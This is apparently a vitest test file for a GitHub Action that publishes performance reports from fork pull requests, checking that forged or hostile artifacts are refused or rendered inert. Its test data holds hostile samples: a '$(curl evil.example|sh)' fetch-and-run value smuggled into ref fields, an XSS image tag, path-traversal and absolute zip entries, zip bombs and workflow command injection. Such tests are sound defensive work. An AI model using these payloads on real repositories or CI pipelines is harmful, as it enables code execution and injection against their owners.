// Pull requests from forks, on the built action: a job that may only read measures and leaves its report; a second
// workflow of the default branch publishes it, and believes nothing of what it finds.
import { mkdtempSync, realpathSync, rmSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { strToU8, zipSync } from 'fflate'
import { afterAll, beforeAll, beforeEach, describe, expect, test } from 'vitest'
import type { Report } from '../../src/model/report.ts'
import type { WorkflowRun } from '../github/artifact-service.ts'
import { endedRun } from '../github/ended-run.ts'
import { checkOutPullRequest } from '../github/fake-checkout.ts'
import { type FakeGitHub, fakeGitHub, repository, tokens, workflowRun } from '../github/fake-github.ts'
import { runAction, type Step, type StepResult } from '../github/fake-runner.ts'
import { createRepository, root } from './repository.ts'

const fork = { id: 77, name: 'mallory/app' } as const
const head = '5'.repeat(40)

let github: FakeGitHub
let pullRequest: number
let bystander: number
let workspace: string
let runs = 500

beforeAll(() => {
  workspace = realpathSync(mkdtempSync(join(tmpdir(), 'empty-')))
})
afterAll(() => rmSync(workspace, { recursive: true, force: true }))
beforeEach(async () => {
  github = await fakeGitHub()
  bystander = await github.openPullRequest('innocent')
  pullRequest = await github.openPullRequest('feature')
  github.setHead(bystander, {
    ref: 'innocent',
    sha: '6'.repeat(40),
    repository: 'octo/app',
    repositoryId: repository.id,
  })
  github.setHead(pullRequest, { ref: 'feature', sha: head, repository: fork.name, repositoryId: fork.id })
  return () => github.close()
})

/** The run of a fork's pull request that has ended. */
const measuringRun = (parts: Partial<WorkflowRun> = {}): WorkflowRun =>
  workflowRun({ id: runs++, head_repository_id: fork.id, head_branch: 'feature', head_sha: head, ...parts })

function publish(
  run: WorkflowRun,
  options: Partial<Step> & { readonly conclusion?: string } = {},
): Promise<StepResult> {
  const { conclusion = 'success', ...step } = options
  return runAction(root, {
    github,
    workspace,
    token: tokens.write,
    event: endedRun(run, fork.name, conclusion),
    ...step,
    with: { command: 'publish', ...step.with },
  })
}

const row = (parts: Partial<Report['comparisons'][number]> = {}): Report['comparisons'][number] => ({
  benchmark: 'parse/large',
  metric: 'cpu',
  unit: 's',
  better: 'lower',
  mode: 'paired',
  base: 0.01,
  head: 0.012,
  ratio: 1.2,
  interval: [1.15, 1.25],
  p: 0.0001,
  pairs: 11,
  agree: 11,
  excludes: null,
  reason: 'All pairs agree.',
  notices: [],
  verdict: 'regression',
  outcome: 'fail',
  terms: { gating: true, regression: 0.05, ignoreBelow: 0.01, onRegression: 'fail' },
  ...parts,
})
type SavedReport = Omit<Report, 'explanations' | 'advice'>
const report = (parts: Partial<SavedReport> = {}): SavedReport => ({
  format: 'perf-gate/report',
  version: 1,
  suite: 'perf-gate',
  createdAt: '2026-11-23T10:00:00.000Z',
  verdict: 'fail',
  comparisons: [row()],
  recorded: [],
  failures: [],
  notices: [],
  change: { base: { commit: 'a'.repeat(40) }, head: {}, reason: 'merge-base' },
  measured: { mode: 'paired', alpha: 0.01, family: 1, pairs: 11 },
  ...parts,
})

type Tree = Readonly<Record<string, string | Uint8Array>>
const archive = (files: Tree): Uint8Array =>
  zipSync(
    Object.fromEntries(
      Object.entries(files).map(([name, text]) => [name, typeof text === 'string' ? strToU8(text) : text]),
    ),
  )
/** What a fork's job leaves, be it what it may. */
function leave(files: Tree, run = measuringRun(), name = 'perf-gate-report-perf-gate'): WorkflowRun {
  github.artifacts.add(name, run, archive(files))
  return run
}
const saved = (parts: Partial<SavedReport> = {}) => ({ 'report.json': JSON.stringify(report(parts)) })
const bodies = async () => (await github.comments(pullRequest)).map(({ body }) => body)

describe('a pull request from a fork', { timeout: 180_000 }, () => {
  test('is measured with a token that only reads, and commented by the second workflow', async () => {
    const origin = createRepository()
    try {
      origin.git('config', 'uploadpack.allowAnySHA1InWant', 'true')
      const suite =
        'benchmarks:\n  size:\n    files: "*.js"\nbudgets:\n  - { metric: bytes, regression: 5% }\n'
      origin.commit({ 'perf-gate.yml': suite, 'a.js': 'x'.repeat(1000) }, 'first')
      origin.git('checkout', '-q', '-b', 'feature')
      const sha = origin.commit({ 'a.js': 'x'.repeat(2000) }, 'twice as large')
      origin.git('checkout', '-q', 'main')
      github.setHead(pullRequest, { ref: 'feature', sha, repository: fork.name, repositoryId: fork.id })
      const checkout = checkOutPullRequest(origin, pullRequest, 'feature', fork.id)
      const run = measuringRun({ head_sha: sha })
      const { event } = checkout
      const measured = await runAction(root, {
        github,
        workspace: checkout.workspace,
        event,
        run,
        token: tokens.readOnly,
      })
      checkout.dispose()
      expect(measured.exitCode, measured.stdout + measured.stderr).toBe(1)
      expect(await bodies()).toEqual([])
      expect(measured.stdout).toContain('read-only token')
      expect(measured.stdout).toContain('posts it as a comment')
      expect(github.artifacts.artifacts.map(({ name }) => name)).toContain('perf-gate-report-perf-gate')

      const published = await publish(run, { conclusion: 'failure' })
      expect(published.exitCode, published.stdout + published.stderr).toBe(0)
      const [comment = '', ...more] = await bodies()
      expect(more).toEqual([])
      expect(comment).toContain('❌')
      expect(comment).toContain('+100')
      expect(comment).toContain('ran the code of mallory/app')
      expect(comment).toContain(`actions/runs/${run.id}`)
      // What the fork calls its commits is replaced by what GitHub says.
      expect(comment).not.toContain(event.sha)
    } finally {
      origin.dispose()
    }
  })

  test('the pull request is the one that GitHub names, whatever the artifact says', async () => {
    const files = {
      ...saved(),
      'pr.txt': String(bystander),
      'event.json': JSON.stringify({ number: bystander }),
    }
    const published = await publish(leave(files))
    expect(published.exitCode, published.stdout).toBe(0)
    expect(await github.comments(bystander)).toEqual([])
    expect(await bodies()).toHaveLength(1)
  })

  test('that edits its own rules is said to, whatever its report says', async () => {
    // Behind so many others that they are on the second page.
    const others = Array.from({ length: 100 }, (_, at) => `src/${at}.js`)
    github.touch(pullRequest, [
      ...others,
      'packages/a/perf-gate.yml',
      '.github/workflows/perf-gate.yml',
      'bench/parse.js',
    ])
    await publish(leave(saved({ edits: ['It edits nothing at all.'] })))
    const [comment = ''] = await bodies()
    expect(comment).toContain(
      'It edits packages/a/perf-gate.yml, .github/workflows/perf-gate.yml, bench/parse.js.',
    )
    expect(comment).not.toContain('nothing at all')
  })

  test.each([
    ['a newer push', { sha: '7'.repeat(40) }, 'not the head'],
    [
      'another fork with a branch of that name',
      { repository: 'trent/app', repositoryId: 78 },
      'No open pull request',
    ],
  ])('%s: nothing is published', async (_, changed, says) => {
    github.setHead(pullRequest, {
      ref: 'feature',
      sha: head,
      repository: fork.name,
      repositoryId: fork.id,
      ...changed,
    })
    const published = await publish(leave(saved()))
    expect(published.exitCode, published.stdout).toBe(0)
    expect(published.stdout).toContain(says)
    expect(await bodies()).toEqual([])
  })

  test('the fork is gone, or the pull request was closed: nothing is published, and the job is green', async () => {
    const gone = await publish(leave(saved()), { event: endedRun(measuringRun(), null) })
    expect(gone.exitCode, gone.stdout).toBe(0)
    expect(gone.stdout).toContain('is not there any more')
    // Closing it, or deleting its branch, which closes it.
    await github.closePullRequest(pullRequest)
    const closed = await publish(leave(saved()))
    expect(closed.exitCode, closed.stdout).toBe(0)
    expect(closed.stdout).toContain('No open pull request')
    expect(await bodies()).toEqual([])
  })

  test('two open pull requests with one head: it is not guessed which', async () => {
    github.setHead(bystander, { ref: 'feature', sha: head, repository: fork.name, repositoryId: fork.id })
    const published = await publish(leave(saved()))
    expect(published.stdout).toContain(`#${bystander}`)
    expect(await bodies()).toEqual([])
  })

  test('several suites: one comment, a check of each, and a second publication changes nothing', async () => {
    const run = leave(saved())
    leave(
      saved({
        suite: 'web app',
        verdict: 'pass',
        comparisons: [row({ verdict: 'no-change', outcome: 'pass' })],
      }),
      run,
      'perf-gate-report-web~20~app',
    )
    const published = await publish(run, { with: { check: 'always' } })
    expect(published.exitCode, published.stdout).toBe(0)
    const [comment = '', ...more] = await bodies()
    expect(more).toEqual([])
    expect(comment).toMatch(/## perf-gate\n[\s\S]*❌[\s\S]*## web app\n[\s\S]*✅/)
    expect(github.checks.map(({ name, conclusion }) => `${name}: ${conclusion}`).sort()).toEqual([
      'perf-gate / web app: success',
      'perf-gate: failure',
    ])
    const writes = () => github.requests.filter((line) => /^(POST|PATCH).*comments/.test(line)).length
    const before = writes()
    await publish(run)
    expect(writes()).toBe(before)
  })

  test('a job that ended without a report: an earlier result is marked, and the job is not green', async () => {
    await publish(leave(saved()))
    const published = await publish(measuringRun(), { conclusion: 'failure' })
    expect(published.exitCode).toBe(3)
    expect((await bodies())[0]).toContain('could not be measured')
  })

  test('a pull request of nobody: a push that ended is no matter', async () => {
    const run = measuringRun()
    const published = await publish(run, {
      event: { name: 'push', ref: 'refs/heads/main', sha: head, payload: {} },
    })
    expect(published.exitCode).toBe(2)
    expect(published.stdout).toContain('workflow_run')
  })
})

const bomb = new Uint8Array(60_000_000)
const hostile: readonly (readonly [string, Tree, string])[] = [
  ['no archive of a report', { 'other.json': '{}' }, 'holds no report.json'],
  ['a path that climbs', { '../../report.json': JSON.stringify(report()) }, 'holds no report.json'],
  ['an absolute path', { '/tmp/report.json': JSON.stringify(report()) }, 'holds no report.json'],
  ['a bomb', { 'report.json': bomb }, 'could not be downloaded or unpacked'],
  ['a bomb beside a report', { ...saved(), 'more.json': bomb }, 'could not be downloaded or unpacked'],
  [
    'too many files',
    { ...saved(), ...Object.fromEntries(Array.from({ length: 9 }, (_, at) => [`${at}`, ''])) },
    'could not be downloaded',
  ],
  [
    'text that is no JSON, and a command',
    { 'report.json': '\n::error::owned\n##[error]owned' },
    'is not JSON',
  ],
  ['deep nesting', { 'report.json': '['.repeat(200_000) }, 'report.json'],
  ['another schema', { 'report.json': JSON.stringify({ ...report(), comparisons: [{}] }) }, 'is no report'],
  ['a newer version', { 'report.json': JSON.stringify({ ...report(), version: 2 }) }, 'has version 2'],
  [
    'more rows than any suite',
    saved({ comparisons: Array.from({ length: 10_001 }, () => row()) }),
    'more than 10000 rows',
  ],
  ['a suite of another name', saved({ suite: 'someone else' }), 'called after another suite'],
  ['a name that breaks lines', saved({ suite: 'a\n<!-- perf-gate end -->' }), 'has no name'],
  ['a pass above rows that fail', saved({ verdict: 'pass' }), 'above rows that fail'],
  ['a prototype', { 'report.json': '{"__proto__":{"format":"perf-gate/report"}}' }, 'is no report'],
]

test('ten thousand rows: comment and summary keep within their limits, and what fails stays', {
  timeout: 60_000,
}, async () => {
  const rows = Array.from({ length: 9000 }, (_, at) =>
    row({ benchmark: `${at} ${'long '.repeat(30)}`, verdict: 'no-change', outcome: 'pass', ratio: 1 }),
  )
  const failing = Array.from({ length: 40 }, (_, at) => row({ benchmark: `slow ${at}.` }))
  const published = await publish(leave(saved({ comparisons: [...rows, ...failing] })))
  expect(published.exitCode, published.stdout).toBe(0)
  const [comment = ''] = await bodies()
  expect(comment.length).toBeLessThanOrEqual(65_536)
  expect(Buffer.byteLength(published.summary)).toBeLessThanOrEqual(1024 * 1024)
  for (const text of [comment, published.summary])
    for (const { benchmark } of failing) expect(text).toContain(`| ❌ | ${benchmark} |`)
  expect(comment).toMatch(
    /no failing row is among them\).*\[.*\]\(https:\/\/github\.com\/octo\/app\/actions\/runs\/\d+/,
  )
  expect(published.summary).toContain('of 9,040 rows did not fit here')
})

describe('a hostile artifact', { timeout: 120_000 }, () => {
  test.each(hostile)('%s is refused, and the reason is said', async (_, files, says) => {
    const published = await publish(leave(files))
    expect(published.exitCode, published.stdout + published.stderr).toBe(3)
    expect(published.stdout).toContain(says)
    expect(await bodies()).toEqual([])
    expect(published.commands.map(({ message }) => message)).not.toContain('owned')
  })

  test('its texts are shown and do nothing', async () => {
    const evil =
      '@octo/security #1 GH-2 <img src=x onerror=alert(1)> [click](https://evil.example) | `x` https://evil.example \u202Egnp.exe ::error::owned'
    const run = leave(
      saved({
        comparisons: [row({ benchmark: evil, reason: `${evil}\n<!-- perf-gate end -->\n# heading` })],
        notices: [{ code: 'x', message: evil, fix: `see ${evil}`, where: evil }],
        failures: [
          {
            benchmark: evil,
            code: 'x',
            reason: evil,
            side: 'head',
            output: '```\n</details>\n@octo <!-- perf-gate end -->',
          },
        ],
        change: {
          base: { commit: '../../../evil/repo', ref: '$(curl evil.example|sh)', directory: '/etc' },
          head: { commit: 'deadbeef', ref: '`id`' },
          reason: 'merge-base',
        },
        baseline: { commit: '$(curl evil.example|sh)', distance: 1, runs: 1 },
        measured: { mode: 'paired', alpha: 0.01, family: 1, pairs: 11, environment: { cpu: evil, os: evil } },
      }),
    )
    const published = await publish(run)
    expect(published.exitCode, published.stdout).toBe(0)
    const [comment = ''] = await bodies()
    expect(comment).toContain('security')
    const outsideCode = comment.replaceAll(/^(`{3,})[\s\S]*?^\1$/gm, '').replaceAll(/(`+)[^`].*?\1/g, '')
    expect(outsideCode).not.toMatch(/@\w|(?<!&)#\d|GH-\d|<img|\]\(https?:\/\/evil|https:\/\/evil|\u202E/)
    expect(comment).not.toMatch(/\$\(curl|evil\/repo|\/etc/)
    expect(comment.match(/^<!-- perf-gate end -->$/gm)).toHaveLength(1)
    expect(published.commands.map(({ message }) => message)).not.toContain('owned')
  })

  test('a good report beside a bad one is published all the same', async () => {
    const run = leave(saved())
    leave({ 'report.json': 'no' }, run, 'perf-gate-report-bad')
    const published = await publish(run)
    expect(published.exitCode).toBe(3)
    expect(await bodies()).toHaveLength(1)
  })
})
